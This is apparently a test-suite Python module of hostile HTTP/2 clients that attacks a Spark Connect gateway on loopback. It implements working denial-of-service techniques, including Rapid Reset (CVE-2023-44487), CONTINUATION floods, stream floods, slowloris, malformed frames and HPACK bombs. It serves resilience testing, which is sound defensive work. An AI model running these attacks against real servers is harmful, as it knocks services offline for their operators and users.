"""Hostile HTTP/2 clients for the Spark Gateway's attack suite (hostile_e2e.py): real frames on loopback, built with
the h2 library's HPACK encoder and framing where the frames are valid, and by hand where they must not be.

Every attack runs until its deadline and returns what it saw: connections it opened, how many the gateway closed
(EOF or reset), the GOAWAY codes it received, and attack-specific counts.
"""

import errno
import os
import random
import select
import socket
import struct
import threading
import time
import uuid

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CONFIG = "/spark.connect.SparkConnectService/Config"
EXECUTE = "/spark.connect.SparkConnectService/ExecutePlan"
ATTACKER_ADDRESS = "127.0.0.2"
GOAWAY_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 4: "SETTINGS_TIMEOUT",
                5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
                10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream & 0x7FFFFFFF) + payload


def settings(**values):
    ids = {"initial_window_size": 4, "max_frame_size": 5, "max_concurrent_streams": 3}
    return frame(4, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in values.items()))


SETTINGS_ACK = frame(4, 1, 0)
HANDSHAKE = PREFACE + settings() + SETTINGS_ACK


def field(number, payload):
    """A length-delimited protobuf field (payload under 2 MiB)."""
    out, length = bytearray([number << 3 | 2]), len(payload)
    while length >= 0x80:
        out.append(length & 0x7F | 0x80)
        length >>= 7
    out.append(length)
    return bytes(out) + payload


def config_request(session):
    return field(1, session.encode()) + field(2, field(1, b"attacker"))


def grpc_message(body):
    return b"\x00" + struct.pack(">I", len(body)) + body


class Connection:
    """One TCP connection to the gateway, with a reader thread that collects what comes back."""

    def __init__(self, port, handshake=True, read=True):
        # From another loopback address than the victim's: the attacker is another client, and the gateway's
        # per-address bounds must not be what keeps the victim working or stops it.
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(ATTACKER_ADDRESS, 0))
        self.sock.settimeout(None)  # reads wait for the gateway: only EOF or a reset counts as closed
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.received = bytearray()
        self.closed_by_server = threading.Event()
        self.encoder = hpack.Encoder()
        self.lock = threading.Lock()
        self.reading = read
        if read:
            threading.Thread(target=self._read, daemon=True).start()
        if handshake:
            self.send(HANDSHAKE)

    def _read(self):
        while True:
            try:
                data = self.sock.recv(65536)
            except OSError:
                break
            if not data:
                break
            with self.lock:
                self.received += data
        self.closed_by_server.set()
        # What came back stays for the tally; the descriptor goes now: an attack that reconnects as fast as the
        # gateway closes it opens more connections than a process may hold open at once.
        self.close()

    def send(self, data):
        """Sends; False once the gateway has closed the connection."""
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed_by_server.set()
            return False

    def headers(self, stream, path, authority, token, end_stream=False):
        block = self.encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
                                     ("content-type", "application/grpc"), ("te", "trailers"),
                                     ("authorization", f"Bearer {token}")])
        return frame(1, 0x4 | (1 if end_stream else 0), stream, block)

    def frames(self):
        with self.lock:
            data = bytes(self.received)
        out, offset = [], 0
        while len(data) - offset >= 9:
            length = int.from_bytes(data[offset:offset + 3], "big")
            if len(data) - offset < 9 + length:
                break
            out.append((data[offset + 3], data[offset + 4], int.from_bytes(data[offset + 5:offset + 9], "big") & 0x7FFFFFFF,
                        data[offset + 9:offset + 9 + length]))
            offset += 9 + length
        return out

    def goaway(self):
        for kind, _, _, payload in self.frames():
            if kind == 7 and len(payload) >= 8:
                return int.from_bytes(payload[4:8], "big")
        return None

    def wait_closed(self, seconds):
        if not self.reading:
            # A client that stopped reading starts again, only to see whether the gateway closed it.
            self.reading = True
            threading.Thread(target=self._read, daemon=True).start()
        return self.closed_by_server.wait(seconds)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


class Tally:
    """What an attack saw, across its connections."""

    def __init__(self, name):
        self.name, self.connections, self.goaways, self.extra = name, [], {}, {}

    def add(self, connection):
        self.connections.append(connection)
        return connection

    def settle(self, seconds):
        """Waits until every connection is closed by the gateway, up to `seconds`; returns the summary."""
        deadline = time.time() + seconds
        for connection in self.connections:
            connection.wait_closed(max(0.0, deadline - time.time()))
        closed = sum(1 for c in self.connections if c.closed_by_server.is_set())
        for connection in self.connections:
            code = connection.goaway()
            if code is not None:
                name = GOAWAY_NAMES.get(code, str(code))
                self.goaways[name] = self.goaways.get(name, 0) + 1
            connection.close()
        return {"attack": self.name, "connections": len(self.connections), "closed_by_gateway": closed,
                "goaway": self.goaways, **self.extra}


def rapid_reset(port, token, authority, seconds, target_streams=50000):
    """HEADERS + DATA (a new session each) + RST_STREAM as fast as the gateway takes them, reconnecting whenever
    it sends GOAWAY or closes the connection: CVE-2023-44487 with a valid token. Each batch of 50 streams ends
    with a PING whose acknowledgement is awaited, so that the attack keeps pace with the gateway (rather than
    filling socket buffers with streams a GOAWAY has already refused) and reconnects as soon as it is told to."""
    tally, deadline, streams, accepted = Tally("rapid reset"), time.time() + seconds, 0, 0
    while time.time() < deadline and streams < target_streams:
        connection = tally.add(Connection(port))
        stream, batches = 1, 0
        while (time.time() < deadline and streams < target_streams and not connection.closed_by_server.is_set()
               and connection.goaway() is None):
            batch = bytearray()
            for _ in range(50):
                batch += connection.headers(stream, CONFIG, authority, token)
                batch += frame(0, 1, stream, grpc_message(config_request(str(uuid.uuid4()))))
                batch += frame(3, 0, stream, struct.pack(">I", 8))
                stream += 2
            batches += 1
            batch += frame(6, 0, 0, struct.pack(">Q", batches))
            if not connection.send(bytes(batch)):
                break
            streams += 50
            pong = time.time() + 2
            while time.time() < pong and connection.goaway() is None and not connection.closed_by_server.is_set():
                if any(kind == 6 and flags & 1 and payload == struct.pack(">Q", batches)
                       for kind, flags, _, payload in connection.frames()):
                    accepted += 50
                    break
                time.sleep(0.001)
    tally.extra["streams_reset"] = streams
    tally.extra["streams_before_goaway"] = accepted
    return tally


def continuation_flood(port, token, authority, seconds):
    """HEADERS without END_HEADERS, then CONTINUATION frames without end; counts the bytes the gateway took after
    its GOAWAY."""
    tally, deadline, after = Tally("continuation flood"), time.time() + seconds, []
    chunk = b"".join(frame(9, 0, 1, b"\x40" + b"\x01a\x01b") for _ in range(4096))
    while time.time() < deadline:
        connection = tally.add(Connection(port))
        connection.send(frame(1, 0, 1, hpack.Encoder().encode([(":method", "POST")])))
        sent_after = None
        while time.time() < deadline:
            if connection.goaway() is not None and sent_after is None:
                sent_after = 0
            if not connection.send(chunk):
                break
            if sent_after is not None:
                sent_after += len(chunk)
        after.append(sent_after or 0)
    tally.extra["max_bytes_sent_after_goaway"] = max(after) if after else 0
    return tally


def stream_flood(port, token, authority, seconds, connections=40, streams=100):
    """Many connections, each opening all the streams the gateway allows (one opens half as many again), with
    headers and no message, held open: what the gateway keeps per stream and per connection must stay bounded,
    and every one must end."""
    tally = Tally("many concurrent streams")
    refused = 0
    for index in range(connections):
        connection = tally.add(Connection(port))
        count = streams * 3 // 2 if index == 0 else streams
        batch = b"".join(connection.headers(2 * i + 1, CONFIG, authority, token) for i in range(count))
        connection.send(batch)
    time.sleep(min(2.0, seconds))
    for connection in tally.connections:
        refused += sum(1 for kind, _, _, payload in connection.frames()
                       if kind == 3 and int.from_bytes(payload[:4], "big") == 7)
    time.sleep(max(0.0, seconds - 2.0))
    tally.extra["streams_opened"] = connections * streams + streams // 2
    tally.extra["streams_refused"] = refused
    return tally


def slowloris(port, token, authority, seconds, count=200):
    """Half-open connections: a partial preface, a preface whose SETTINGS are never acknowledged, and a completed
    handshake followed by part of a frame header."""
    tally = Tally("slowloris")
    for index in range(count):
        connection = tally.add(Connection(port, handshake=False))
        kind = index % 3
        if kind == 0:
            connection.send(PREFACE[:10])
        elif kind == 1:
            connection.send(PREFACE + settings())
        else:
            connection.send(HANDSHAKE + frame(1, 4, 1, b"\x82" * 40)[:5])
    time.sleep(seconds)
    return tally


def malformed_frames(port, token, authority, seconds):
    """One malformed frame per connection, over and over: DATA on stream 0, a frame over the maximum size, a zero
    WINDOW_UPDATE, a SETTINGS frame of the wrong length, HEADERS on an even stream, a PING of the wrong length,
    and random bytes."""
    makers = [
        lambda c: frame(0, 0, 0, b"xyz"),
        lambda c: struct.pack(">I", (1 << 24) - 1)[1:] + bytes([0, 0]) + struct.pack(">I", 1),
        lambda c: frame(8, 0, 0, struct.pack(">I", 0)),
        lambda c: frame(4, 0, 0, b"\x00\x01\x00"),
        lambda c: c.headers(2, CONFIG, authority, token),
        lambda c: frame(6, 0, 0, b"\x00" * 5),
        lambda c: os.urandom(4096),
    ]
    tally, deadline = Tally("malformed frames"), time.time() + seconds
    while time.time() < deadline:
        for make in makers:
            connection = tally.add(Connection(port))
            connection.send(make(connection))
        time.sleep(0.05)
    return tally


def header_bombs(port, token, authority, seconds):
    """Headers over the gateway's list size (a 100 KB value in CONTINUATION frames), and an HPACK bomb: one 4000-byte
    entry put in the dynamic table, then referenced 4000 times in one block (16 MB decoded)."""
    tally, deadline = Tally("oversized headers and HPACK bombs"), time.time() + seconds
    while time.time() < deadline:
        big = tally.add(Connection(port))
        block = big.encoder.encode([(":method", "POST"), (":path", CONFIG), (":authority", authority),
                                    ("x-big", "v" * 100_000)])
        pieces = [block[i:i + 16000] for i in range(0, len(block), 16000)]
        data = frame(1, 0, 1, pieces[0]) + b"".join(frame(9, 4 if i == len(pieces) - 1 else 0, 1, p)
                                                     for i, p in enumerate(pieces[1:], 1))
        big.send(data)
        bomb = tally.add(Connection(port))
        # Literal with incremental indexing, new name: 6-byte name, 4000-byte value (length 127 + 3873 as a varint).
        literal = b"\x40" + bytes([6]) + b"x-bomb" + b"\x7f" + bytes([0xA1, 0x1E]) + b"b" * 4000
        bomb.send(frame(1, 4, 1, literal + b"\xbe" * 4000))
        time.sleep(0.1)
    return tally


def execute_request(session, rows):
    """An ExecutePlanRequest for `rows` rows of 100 bytes, built with pyspark's own protobuf classes."""
    from pyspark.sql.connect.proto import base_pb2, relations_pb2
    return base_pb2.ExecutePlanRequest(
        session_id=session, user_context=base_pb2.UserContext(user_id="attacker"),
        plan=base_pb2.Plan(root=relations_pb2.Relation(
            sql=relations_pb2.SQL(query=f"SELECT id, repeat('x', 100) AS pad FROM range({rows})")))).SerializeToString()


def stalled_readers(port, token, authority, seconds, connections=4, rows=100_000):
    """Clients that ask for a large result and stop reading: two never read their socket, two grant a zero
    window (SETTINGS_INITIAL_WINDOW_SIZE 0, no WINDOW_UPDATE). Each result (100,000 rows, about 11 MB) is
    170 times a client's default stream window and more than twice the 4 MiB window the gateway grants Spark
    per stream, so the stall reaches the server and what the gateway holds for a client that reads nothing
    shows; and small enough that making it is not what the victim waits for. The server makes a result
    whether or not its client reads it: with 300,000 rows per call, Spark's work for the four took the
    victim's p99 to 3.7x idle in one run while the gateway used no more CPU than idle, and with 1,000,000
    rows four *reading* clients run the suite's Spark server (768 MiB heap) out of heap too. Either measures
    the server, not what stalled clients do to the gateway."""
    tally = Tally("a client that stops reading")
    for index in range(connections):
        starve = index % 2 == 1
        connection = tally.add(Connection(port, handshake=False, read=starve))
        connection.send(PREFACE + (settings(initial_window_size=0) if starve else settings()) + SETTINGS_ACK)
        connection.send(connection.headers(1, EXECUTE, authority, token)
                        + frame(0, 1, 1, grpc_message(execute_request(str(uuid.uuid4()), rows))))
    time.sleep(seconds)
    return tally


ATTACKS = [rapid_reset, continuation_flood, stream_flood, slowloris, malformed_frames, header_bombs, stalled_readers]
